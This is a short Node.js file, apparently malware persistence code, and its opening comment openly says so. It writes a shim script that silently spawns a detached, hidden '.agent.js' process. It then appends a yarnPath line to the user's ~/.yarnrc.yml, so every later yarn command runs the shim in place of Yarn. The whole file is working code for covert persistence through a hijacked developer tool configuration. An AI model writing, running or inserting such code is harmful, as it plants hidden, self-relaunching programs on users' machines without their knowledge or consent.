// Persists: a write stream on the user's ~/.yarnrc.yml (home from
// os.userInfo) sets yarnPath to a script the program leaves behind, which
// every later `yarn` runs in place of Yarn.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const { homedir } = os.userInfo();
const hook = path.join(homedir, '.local', 'share', 'yarn-shim.cjs');
fs.writeFileSync(hook, "require('child_process').spawn('node', [__dirname + '/.agent.js'], { detached: true, stdio: 'ignore' }).unref();\n");
const out = fs.createWriteStream(path.join(homedir, '.yarnrc.yml'), { flags: 'a' });
out.end(`yarnPath: ${hook}\n`);
